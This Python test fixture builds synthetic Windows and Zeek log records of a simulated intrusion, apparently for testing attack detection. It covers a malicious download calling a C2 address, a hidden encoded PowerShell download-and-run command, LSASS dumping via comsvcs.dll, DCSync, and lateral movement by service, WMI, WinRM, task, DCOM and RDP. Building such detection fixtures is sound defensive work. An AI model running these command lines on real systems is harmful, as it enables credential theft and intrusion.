"""Movements from one host to another, as Windows hosts and Zeek record them; the forms are the vendors' published ones.

Every host, account, address and id is made here. A movement is a few records: who did it on the first host, what the second saw
of it, and what began there.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from contract.event import Event
from contract.ports import Context
from ingest.adapters.windows_eventlog import ADAPTER as WINDOWS
from ingest.adapters.zeek_log import ADAPTER as ZEEK
from ingest.normalize import Normalizer

START = datetime(2023, 8, 16, 9, 0, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon"
AUDIT = "Microsoft-Windows-Security-Auditing"
_CHANNEL = {
    SYSMON: "Microsoft-Windows-Sysmon/Operational",
    AUDIT: "Security",
    "Service Control Manager": "System",
}
C2 = "203.0.113.66"
SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
ENCODED = (
    f"{POWERSHELL} -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"
)


@dataclass(slots=True)
class Process:
    """One process: by its GUID, number and program."""

    host: str
    guid: str
    pid: int
    image: str


@dataclass(slots=True)
class Lab:
    """Takes records; `at` is seconds from the start."""

    clock: float = 0.0
    windows: list[dict[str, Any]] = field(default_factory=list)
    zeek: list[dict[str, Any]] = field(default_factory=list)
    made: int = 0

    def time(self) -> datetime:
        self.clock += 1.5
        return START + timedelta(seconds=self.clock)

    def record(self, host: str, source: str, event_id: int, **data: Any) -> None:
        at = self.time()
        stamp = at.strftime("%Y-%m-%dT%H:%M:%S.%f")[:23] + "Z"
        row: dict[str, Any] = {
            "SourceName": source, "Channel": _CHANNEL.get(source, source), "Hostname": host,
            "@timestamp": stamp, "TimeCreated": stamp, "EventID": event_id, "Keywords": "0x8020000000000000",
        }  # fmt: skip
        if source == SYSMON:
            row["UtcTime"] = at.strftime("%Y-%m-%d %H:%M:%S.%f")[:23]
        self.windows.append(row | data)

    def sensor(self, log: str, **data: Any) -> None:
        at = self.time()
        data = {name.replace("__", "."): value for name, value in data.items()}
        self.zeek.append({"_path": log, "ts": at.timestamp(), "uid": f"C{len(self.zeek):06d}", **data})  # fmt: skip

    def start(
        self, parent: Process, image: str, command: str, user: str, logon: str, *, has_audit: bool = False
    ) -> Process:  # fmt: skip
        self.made += 1
        made = Process(parent.host, guid(self.made), 4000 + 4 * self.made, image)
        if has_audit:
            domain, _, name = user.rpartition("\\")
            self.record(
                parent.host, AUDIT, 4688, SubjectUserName=name, SubjectDomainName=domain, SubjectLogonId=logon,
                SubjectUserSid="S-1-5-21-1-2-3-1105", NewProcessId=hex(made.pid), NewProcessName=image, CommandLine=command,
                ProcessId=hex(parent.pid), ParentProcessName=parent.image, TargetUserName="-",
                TargetDomainName="-", TargetLogonId="0x0",
            )  # fmt: skip
            return made
        self.record(
            parent.host, SYSMON, 1, ProcessGuid=made.guid, ProcessId=str(made.pid), Image=image, CommandLine=command,
            User=user, LogonId=logon, LogonGuid=guid(900), ParentProcessGuid=parent.guid,
            ParentProcessId=str(parent.pid), ParentImage=parent.image, ParentCommandLine=parent.image,
            OriginalFileName=image.rpartition("\\")[2], Hashes="SHA256=" + f"{self.made:064x}",
            CurrentDirectory=SYSTEM,
        )  # fmt: skip
        return made

    def connect(self, by: Process, user: str, here: str, port: int, there: str, to: int) -> None:
        """A connection as its own end (Sysmon) and Zeek see it."""
        self.record(
            by.host, SYSMON, 3, ProcessGuid=by.guid, ProcessId=str(by.pid), Image=by.image, User=user, Protocol="tcp",
            Initiated="true", SourceIsIpv6="false", SourceIp=here, SourceHostname=by.host, SourcePort=str(port),
            DestinationIsIpv6="false", DestinationIp=there, DestinationHostname="-", DestinationPort=str(to),
        )  # fmt: skip
        self.sensor("conn", id__orig_h=here, id__orig_p=port, id__resp_h=there, id__resp_p=to, proto="tcp", conn_state="SF")  # fmt: skip

    def logon(
        self, host: str, user: str, logon: str, source: str, port: int | str, kind: str = "3", ticket: str = "", name: str = "-"
    ) -> None:  # fmt: skip
        """A remote logon as the second host records it; `port` may be `-`, as with remote desktop."""
        domain, _, account = user.rpartition("\\")
        self.record(
            host, AUDIT, 4624, SubjectUserSid="S-1-0-0", SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0",
            TargetUserSid="S-1-5-21-1-2-3-1105", TargetUserName=account, TargetDomainName=domain, TargetLogonId=logon,
            LogonType=kind, LogonProcessName="Kerberos", AuthenticationPackageName="Kerberos", WorkstationName=name,
            LogonGuid=ticket or "{00000000-0000-0000-0000-000000000000}", ProcessId="0x0", ProcessName="-",
            IpAddress=source, IpPort=str(port),
        )  # fmt: skip

    def events(self) -> list[Event]:
        context = Context(received_us=int(START.timestamp() * 1e6) + 86_400_000_000)
        found: list[Event] = []
        for adapter, rows in ((WINDOWS, self.windows), (ZEEK, self.zeek)):
            normalizer = Normalizer(adapter, adapter.name)
            for row in rows:
                for one in normalizer.take(json.dumps(row).encode(), context):
                    assert isinstance(one, Event), one
                    found.append(one)
        return sorted(found, key=lambda one: one.time_us)


def guid(number: int) -> str:
    return f"{{5a1d0c00-{number:04x}-65aa-0000-{number:012x}}}"


@dataclass(slots=True)
class Site:
    """Two workstations, a server, a domain controller."""

    lab: Lab = field(default_factory=Lab)
    desk: str = "WKS1.corp.example.com"
    desk_ip: str = "10.0.1.5"
    server: str = "SRV2.corp.example.com"
    server_ip: str = "10.0.2.9"
    user: str = "CORP\\alice"
    logon: str = "0x51a2b"
    remote: str = "0x9c41e"

    def foothold(self, *, has_audit: bool = False) -> Process:
        """A download is run, calls its server, looks around, starts a hidden shell."""
        lab, desk = self.lab, Process(self.desk, guid(1000), 3100, "C:\\Windows\\explorer.exe")
        path = "C:\\Users\\alice\\Downloads\\invoice.exe"
        payload = lab.start(desk, path, f'"{path}"', self.user, self.logon, has_audit=has_audit)
        lab.connect(payload, self.user, self.desk_ip, 50111, C2, 443)
        for command in ("whoami /all", 'net group "Domain Admins" /domain', "systeminfo"):
            image = SYSTEM + command.split()[0] + ".exe"
            lab.start(payload, image, command, self.user, self.logon, has_audit=has_audit)
        return lab.start(payload, POWERSHELL, ENCODED, self.user, self.logon, has_audit=has_audit)

    def process(self, image: str, number: int) -> Process:
        """A process of Windows itself on the second host."""
        return Process(self.server, guid(2000 + number), 600 + 4 * number, image)

    # ------------------------------------------------------------------ the movements

    def by_service(self, by: Process, *, has_ticket: bool = False) -> None:
        """A program copied to ADMIN$ and run as a service; the connection is the kernel's own."""
        lab, ticket = self.lab, guid(77) if has_ticket else ""
        if has_ticket:
            lab.record(
                self.desk, AUDIT, 4648, SubjectUserName="alice", SubjectDomainName="CORP", SubjectLogonId=self.logon,
                LogonGuid=guid(78), TargetUserName="svc-admin", TargetDomainName="CORP", TargetLogonGuid=ticket,
                TargetServerName="SRV2.corp.example.com", TargetInfo="SRV2.corp.example.com", ProcessId=hex(by.pid), ProcessName=by.image,
                IpAddress="-", IpPort="-",
            )  # fmt: skip
        kernel = Process(self.desk, guid(1001), 4, "System")
        lab.connect(kernel, "NT AUTHORITY\\SYSTEM", self.desk_ip, 50222, self.server_ip, 445)
        user = "CORP\\svc-admin" if has_ticket else self.user
        lab.logon(self.server, user, self.remote, self.desk_ip, 50222, ticket=ticket)
        domain, _, account = user.rpartition("\\")
        who = {"SubjectUserName": account, "SubjectDomainName": domain, "SubjectLogonId": self.remote,
               "SubjectUserSid": "S-1-5-21-1-2-3-1105"}  # fmt: skip
        for share, name in (("\\\\*\\ADMIN$", "kqzwjhxv.exe"), ("\\\\*\\IPC$", "svcctl")):
            lab.record(
                self.server, AUDIT, 5145, **who, ObjectType="File", IpAddress=self.desk_ip, IpPort="50222", ShareName=share,
                ShareLocalPath="\\??\\C:\\Windows" if "ADMIN" in share else "", RelativeTargetName=name, AccessMask="0x2",
                AccessList="%%4417",
            )  # fmt: skip
        path = "C:\\Windows\\kqzwjhxv.exe"
        lab.record(
            self.server, AUDIT, 4697, **who, ServiceName="kqzwjhxv", ServiceFileName="%SystemRoot%\\kqzwjhxv.exe",
            ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem",
        )  # fmt: skip
        lab.record(
            self.server, "Service Control Manager", 7045, ServiceName="kqzwjhxv", ImagePath="%SystemRoot%\\kqzwjhxv.exe",
            ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem",
        )  # fmt: skip
        services = self.process(SYSTEM + "services.exe", 1)
        made = lab.start(services, path, path, "NT AUTHORITY\\SYSTEM", "0x3e7")
        self.after(made, "NT AUTHORITY\\SYSTEM", "0x3e7")

    def by_service_command(self, by: Process) -> None:
        """A service whose program is a command line: nothing is copied."""
        lab = self.lab
        lab.connect(by, self.user, self.desk_ip, 50223, self.server_ip, 135)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50223)
        command = f"%COMSPEC% /b /c start /b /min {ENCODED}"
        lab.record(
            self.server, AUDIT, 4697, SubjectUserName="alice", SubjectDomainName="CORP", SubjectLogonId=self.remote,
            SubjectUserSid="S-1-5-21-1-2-3-1105", ServiceName="mtwnqx", ServiceFileName=command, ServiceType="0x10",
            ServiceStartType="3", ServiceAccount="LocalSystem",
        )  # fmt: skip
        services = self.process(SYSTEM + "services.exe", 1)
        said = command.replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe")
        made = lab.start(services, SYSTEM + "cmd.exe", said, "NT AUTHORITY\\SYSTEM", "0x3e7")
        made = lab.start(made, POWERSHELL, ENCODED, "NT AUTHORITY\\SYSTEM", "0x3e7")
        self.after(made, "NT AUTHORITY\\SYSTEM", "0x3e7")

    def by_wmi(self, by: Process, *, has_audit: bool = False) -> None:
        """Win32_Process.Create: the process runs in the caller's own logon session."""
        lab = self.lab
        if not has_audit:
            lab.connect(by, self.user, self.desk_ip, 50333, self.server_ip, 135)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50333)
        provider = self.process(SYSTEM + "wbem\\WmiPrvSE.exe", 2)
        made = lab.start(provider, POWERSHELL, ENCODED, self.user, self.remote, has_audit=has_audit)
        self.after(made, self.user, self.remote, has_audit=has_audit)

    def by_winrm(self, by: Process) -> None:
        lab = self.lab
        lab.connect(by, self.user, self.desk_ip, 50444, self.server_ip, 5985)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50444)
        dcom = self.process(SYSTEM + "svchost.exe", 3)
        shell = lab.start(dcom, SYSTEM + "wsmprovhost.exe", "wsmprovhost.exe -Embedding", self.user, self.remote)  # fmt: skip
        self.after(shell, self.user, self.remote)

    def by_task(self, by: Process) -> None:
        """A task registered over RPC; the scheduler runs it as SYSTEM."""
        lab = self.lab
        lab.connect(by, self.user, self.desk_ip, 50555, self.server_ip, 49671)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50555)
        arguments = ENCODED.removeprefix(POWERSHELL + " ")
        lab.record(
            self.server, AUDIT, 4698, SubjectUserName="alice", SubjectDomainName="CORP", SubjectLogonId=self.remote,
            SubjectUserSid="S-1-5-21-1-2-3-1105", TaskName="\\Updater",
            TaskContent='<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Actions Context="Author"><Exec>'
            f"<Command>{POWERSHELL}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>",
        )  # fmt: skip
        scheduler = self.process(SYSTEM + "svchost.exe", 4)
        made = lab.start(scheduler, POWERSHELL, f'"{POWERSHELL}" {arguments}', "NT AUTHORITY\\SYSTEM", "0x3e7")  # fmt: skip
        self.after(made, "NT AUTHORITY\\SYSTEM", "0x3e7")

    def by_dcom(self, by: Process) -> None:
        """MMC20.Application: the program is started in the caller's session."""
        lab = self.lab
        lab.connect(by, self.user, self.desk_ip, 50666, self.server_ip, 49152)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50666)
        dcom = self.process(SYSTEM + "svchost.exe", 3)
        console = lab.start(dcom, SYSTEM + "mmc.exe", SYSTEM + "mmc.exe -Embedding", self.user, self.remote)  # fmt: skip
        made = lab.start(console, POWERSHELL, ENCODED, self.user, self.remote)
        self.after(made, self.user, self.remote)

    def by_desktop(self, by: Process) -> None:
        """Remote desktop: no port in the logon, a shell of the desktop over everything."""
        lab = self.lab
        client = lab.start(by, SYSTEM + "mstsc.exe", "mstsc.exe /v:SRV2", self.user, self.logon)
        lab.connect(client, self.user, self.desk_ip, 50777, self.server_ip, 3389)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, "0", kind="10", name="SRV2")
        shell = self.process("C:\\Windows\\explorer.exe", 5)
        made = lab.start(shell, POWERSHELL, ENCODED, self.user, self.remote)
        self.after(made, self.user, self.remote)

    def by_replication(self, by: Process) -> None:
        """DCSync: a person's account asks the domain controller for what only controllers replicate."""
        lab = self.lab
        lab.connect(by, self.user, self.desk_ip, 50888, self.server_ip, 49667)
        lab.logon(self.server, self.user, self.remote, self.desk_ip, 50888)
        lab.sensor(
            "dce_rpc", id__orig_h=self.desk_ip, id__orig_p=50888, id__resp_h=self.server_ip, id__resp_p=49667,
            rtt=0.001, named_pipe="49667", endpoint="drsuapi", operation="DRSGetNCChanges",
        )  # fmt: skip
        lab.record(
            self.server, AUDIT, 4662, SubjectUserSid="S-1-5-21-1-2-3-1105", SubjectUserName="alice", SubjectDomainName="CORP",
            SubjectLogonId=self.remote, ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            ObjectName="%{f4ab0ba2-0a2b-4e67-9a7a-0d0a34c5d2d1}", OperationType="Object Access", AccessMask="0x100",
            Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}",
        )  # fmt: skip

    def after(self, by: Process, user: str, logon: str, *, has_audit: bool = False) -> None:
        """What begins on the second host."""
        lab = self.lab
        for command in ("whoami /all", "nltest /dclist:corp"):
            image = SYSTEM + command.split()[0] + ".exe"
            lab.start(by, image, command, user, logon, has_audit=has_audit)
        dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\a.bin full"
        lab.start(by, SYSTEM + "rundll32.exe", dump, user, logon, has_audit=has_audit)

    def neighbours(self) -> None:
        """Others at work on the same server and from another desk: a service, a task, a look around."""
        lab, desk = self.lab, "WKS3.corp.example.com"
        admin = Process(desk, guid(3000), 5100, "C:\\Windows\\explorer.exe")
        shell = lab.start(admin, POWERSHELL, POWERSHELL, "CORP\\bob", "0x77001")
        lab.start(shell, SYSTEM + "whoami.exe", "whoami /all", "CORP\\bob", "0x77001")
        lab.start(shell, SYSTEM + "systeminfo.exe", "systeminfo", "CORP\\bob", "0x77001")
        lab.connect(shell, "CORP\\bob", "10.0.1.7", 51999, self.server_ip, 5985)
        lab.logon(self.server, "CORP\\bob", "0x88002", "10.0.1.7", 51999)
        dcom = self.process(SYSTEM + "svchost.exe", 3)
        remote = lab.start(dcom, SYSTEM + "wsmprovhost.exe", "wsmprovhost.exe -Embedding", "CORP\\bob", "0x88002")  # fmt: skip
        lab.start(remote, SYSTEM + "whoami.exe", "whoami /all", "CORP\\bob", "0x88002")
        lab.start(
            remote, SYSTEM + "net.exe", 'net group "Domain Admins" /domain', "CORP\\bob", "0x88002"
        )
        lab.record(
            self.server, "Service Control Manager", 7045, ServiceName="BackupAgent", ImagePath="C:\\ProgramData\\Backup\\agent.exe",
            ServiceType="user mode service", StartType="auto start", AccountName="LocalSystem",
        )  # fmt: skip
